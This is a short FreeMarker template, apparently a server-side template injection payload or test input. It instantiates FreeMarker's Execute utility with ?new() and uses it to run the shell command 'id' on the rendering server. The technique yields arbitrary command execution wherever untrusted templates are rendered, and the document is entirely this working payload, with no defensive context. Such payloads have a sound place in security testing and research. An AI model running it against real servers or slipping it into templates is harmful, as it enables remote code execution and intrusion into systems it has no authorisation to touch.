<#-- tries to run a program through FreeMarker's Execute utility -->
<#assign run = "freemarker.template.utility.Execute"?new()>
${run("id")}
